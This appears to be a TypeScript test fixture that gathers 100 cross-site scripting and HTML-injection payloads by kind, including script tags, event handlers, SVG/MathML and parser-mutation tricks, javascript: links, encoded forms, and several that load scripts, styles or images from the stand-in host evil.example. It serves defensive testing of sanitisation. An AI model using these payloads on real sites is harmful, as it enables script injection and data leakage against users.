/** What somebody would write who wants a page of ours to do their bidding: test/browser/payloads.test.ts tries it everywhere. */

type Kind =
  | 'script'
  | 'handler'
  | 'focus'
  | 'svg'
  | 'mathml'
  | 'frame'
  | 'fetches'
  | 'style'
  | 'mutation'
  | 'address'
  | 'markdown'
  | 'breaks out'
  | 'entities'
  | 'template'

/** `acts`: put into a page as HTML it does something at once; the others need a click, or a careless program. */
const all: Record<Kind, { acts: boolean; texts: string[] }> = {
  script: {
    acts: true,
    texts: [
      '<script>alert(1)</script>',
      '<SCRIPT>alert(1)</SCRIPT>',
      '<script >alert(1)</script >',
      '<script/x>alert(1)</script>',
      '<script type="text/javascript">alert(1)</script>',
      '<script type=module>alert(1)</script>',
      '<script>eval("alert(1)")</script>',
      '"><script>alert(1)</script>',
      '<script src="data:text/javascript,alert(1)"></script>',
      '<script>document.write("<img src=x onerror=alert(1)>")</script>',
    ],
  },
  handler: {
    acts: true,
    texts: [
      '<img src=x onerror=alert(1)>',
      '<img/src="x"/onerror=alert(1)>',
      '<IMG SRC=x ONERROR="alert(1)">',
      '<img src=x onerror=&#97;lert(1)>',
      '<img src=x:x onerror="alert`1`">',
      '<body onload=alert(1)>',
      '<body onpageshow=alert(1)>',
      '<details open ontoggle=alert(1)>x</details>',
      '<audio src=x onerror=alert(1)>',
      '<video><source onerror=alert(1) src=x></video>',
      '<p style="animation:a 1s" onanimationstart=alert(1)>x<style>@keyframes a{}</style>',
      '<object data=x onerror=alert(1)></object>',
    ],
  },
  focus: {
    acts: false,
    texts: [
      '<input autofocus onfocus=alert(1)>',
      '<textarea autofocus onfocus=alert(1)></textarea>',
      '<a href=# id=x tabindex=1 onfocus=alert(1) autofocus>x</a>',
    ],
  },
  svg: {
    acts: true,
    texts: [
      '<svg onload=alert(1)>',
      '<svg/onload=alert(1)//',
      '<svg><script>alert(1)</script></svg>',
      '<svg><script>alert&#40;1&#41;</script></svg>',
      '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
      '<svg><set onbegin=alert(1) attributeName=x to=1>',
      '<svg><image href=x onerror=alert(1) /></svg>',
      '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    ],
  },
  mathml: {
    acts: true,
    texts: [
      '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
      '<math><mi//xlink:href="data:x,<script>alert(1)</script>">x</mi><img src=x onerror=alert(1)>',
    ],
  },
  frame: {
    acts: true,
    texts: [
      '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
      '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
      '<iframe src="javascript:alert(1)"></iframe>',
      '<iframe onload=alert(1)></iframe>',
      '<object data="javascript:alert(1)" onerror=alert(1)></object>',
      '<embed src="https://evil.example/x.html">',
      '<iframe src=https://evil.example></iframe>',
    ],
  },
  fetches: {
    acts: true,
    texts: [
      '<img src=https://evil.example/p.png>',
      '<img srcset="https://evil.example/p.png 1x">',
      '<picture><source srcset=https://evil.example/p><img></picture>',
      '<link rel=stylesheet href=https://evil.example/x.css>',
      '<script src=https://evil.example/x.js></script>',
      '<video poster=https://evil.example/p.png></video>',
      '<audio src=https://evil.example/a.mp3 autoplay></audio>',
      '<svg><image href="https://evil.example/p.svg"/></svg>',
      '<input type=image src=https://evil.example/p.png>',
      '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    ],
  },
  style: {
    acts: true,
    texts: [
      '<style>@import "https://evil.example/x.css";</style>',
      '<style>body{background:url(https://evil.example/p.png)}</style>',
      '<div style="background:url(https://evil.example/p.png)">x</div>',
      '<p style="list-style:url(https://evil.example/l.png);display:list-item">x</p>',
    ],
  },
  mutation: {
    acts: false,
    texts: [
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
      '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
      '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
      '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
      '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
      '<svg><desc><template><img src=x onerror=alert(1)></template></desc></svg>',
      '<select><iframe></select><img src=x onerror=alert(1)>',
      '<scr<script>ipt>alert(1)</scr</script>ipt>',
      '<!--><img src=x onerror=alert(1)>-->',
      '<![CDATA[><img src=x onerror=alert(1)>]]>',
    ],
  },
  address: {
    acts: false,
    texts: [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'java&#10;script:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'vbscript:msgbox(1)',
      '//evil.example/x',
      '<a href="javascript:alert(1)">x</a>',
      '<form action=https://evil.example><button>x</button></form>',
      '<base href=https://evil.example/>',
    ],
  },
  markdown: {
    acts: false,
    texts: [
      '[x](javascript:alert(1))',
      '[x](JAVASCRIPT:alert(1))',
      '[x](data:text/html,<script>alert(1)</script>)',
      '[x](<javascript:alert(1)>)',
      '![x](https://evil.example/p.png)',
      '![x](javascript:alert(1))',
      '[![x](https://evil.example/p.png)](javascript:alert(1))',
      '[x]: javascript:alert(1) "[x]"',
      '<javascript:alert(1)>',
      '`<img src=x onerror=alert(1)>`',
    ],
  },
  'breaks out': {
    acts: false,
    texts: [
      '" autofocus onfocus=alert(1) x="',
      "' autofocus onfocus=alert(1) x='",
      '</textarea><script>alert(1)</script>',
      '</title><script>alert(1)</script>',
      '</script><script>alert(1)</script>',
      "'-alert(1)-'",
    ],
  },
  entities: {
    acts: false,
    texts: [
      '&lt;script&gt;alert(1)&lt;/script&gt;',
      '&#60;img src=x onerror=alert(1)&#62;',
      '%3Cscript%3Ealert(1)%3C/script%3E',
      '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    ],
  },
  template: {
    acts: false,
    texts: [
      '{{constructor.constructor("alert(1)")()}}',
      '$'.concat('{alert(1)}'),
      '<template><script>alert(1)</script></template>',
      '<%= alert(1) %>',
    ],
  },
}

/** All 100. Each fits into the shortest field that takes free words. */
export const payloads: readonly string[] = Object.values(all).flatMap(({ texts }) => texts)

/** Those that do something as soon as a program takes them for HTML: a test that watches must see every one. */
export const livePayloads: readonly string[] = Object.values(all).flatMap(({ acts, texts }) =>
  acts ? texts : [],
)
